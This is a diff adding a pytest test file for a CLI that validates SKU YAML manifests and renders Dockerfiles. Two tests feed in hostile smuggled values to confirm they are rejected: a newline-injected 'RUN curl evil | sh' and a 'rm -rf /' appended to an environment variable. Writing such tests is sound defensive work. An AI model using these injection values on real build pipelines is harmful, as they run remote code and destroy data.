@@ -1,0 +1,95 @@
+"""The CLI end to end (in-process): exit codes, every-problem reporting, JSON outputs, schema freshness."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import pytest
+
+from builder.cli import main
+from builder.manifest import manifest_schema
+from builder.paths import SKUS
+
+CPU = SKUS / "cpu-x86_64.yaml"
+
+
+def _write(tmp_path: Path, name: str, text: str) -> Path:
+    path = tmp_path / f"{name}.yaml"
+    path.write_text(text, encoding="utf-8")
+    return path
+
+
+def _cpu_text(name: str = "bad") -> str:
+    return CPU.read_text().replace("name: cpu-x86_64", f"name: {name}")
+
+
+def test_check_shipped_skus_exits_zero(capsys):
+    assert main(["check", str(SKUS)]) == 0
+    out = capsys.readouterr().out
+    for path in SKUS.glob("*.yaml"):
+        assert f"ok  {path.stem}" in out
+
+
+def test_typo_wrong_type_and_newline_all_reported_with_exit_2(tmp_path, capsys):
+    text = _cpu_text()
+    text = text.replace("  hardware_class: cpu-x86_64", "  hardwre_class: cpu-x86_64")
+    text = text.replace("batch_size: 8", "batch_size: many")
+    text = text.replace("    version: 5.24.0", '    version: "5.24.0\\nRUN curl evil | sh"')
+    path = _write(tmp_path, "bad", text)
+    assert main(["check", str(path)]) == 2
+    out = capsys.readouterr().out
+    assert "accelerator.hardwre_class: unknown key; fix: did you mean 'hardware_class'?" in out
+    assert "gate.batch_size:" in out
+    assert "stack.engine.version: value carries a newline" in out
+
+
+def test_shell_metacharacters_exit_2_and_nothing_rendered(tmp_path, capsys):
+    text = _cpu_text().replace("OMP_NUM_THREADS: \"1\"", 'OMP_NUM_THREADS: "1; rm -rf /"')
+    path = _write(tmp_path, "bad", text)
+    assert main(["render", str(path)]) == 2
+    captured = capsys.readouterr()
+    assert "FROM" not in captured.out
+    assert "runtime.env.OMP_NUM_THREADS" in captured.err
+
+
+def test_incompatible_torch_and_triton_exit_3(tmp_path, capsys):
+    h200 = SKUS / "nvidia-h200-vllm.yaml"
+    if not h200.exists():
+        pytest.skip("no H200 SKU")
+    text = h200.read_text().replace("name: nvidia-h200-vllm", "name: bad")
+    import yaml
+
+    data = yaml.safe_load(text)
+    data["stack"]["compiler"]["version"] = "3.1.0"
+    path = _write(tmp_path, "bad", yaml.safe_dump(data))
+    assert main(["check", str(path)]) == 3
+    out = capsys.readouterr().out
+    assert "stack.compiler.version" in out and "expected" in out
+
+
+def test_render_prints_dockerfile(capsys):
+    assert main(["render", "cpu-x86_64"]) == 0
+    assert "FROM ${SKUPIN_BASE}" in capsys.readouterr().out
+
+
+def test_unknown_sku_suggests(capsys):
+    assert main(["render", "cpu-x86"]) == 2
+    assert "did you mean 'cpu-x86_64'" in capsys.readouterr().err
+
+
+def test_matrix_is_json_with_runner_labels(capsys):
+    assert main(["matrix"]) == 0
+    data = json.loads(capsys.readouterr().out)
+    names = {e["sku"] for e in data["include"]}
+    assert names == {p.stem for p in SKUS.glob("*.yaml")}
+    for entry in data["include"]:
+        assert entry["hardware_class"] in entry["gate_runner"] or entry["vendor"] == "cpu"
+
+
+def test_schema_is_json_and_committed_copy_is_fresh(capsys):
+    assert main(["schema"]) == 0
+    printed = json.loads(capsys.readouterr().out)
+    assert printed == manifest_schema()
+    committed = json.loads((SKUS / "schema.json").read_text())
+    assert committed == printed, "skus/schema.json is stale: run `skupin schema --write`"
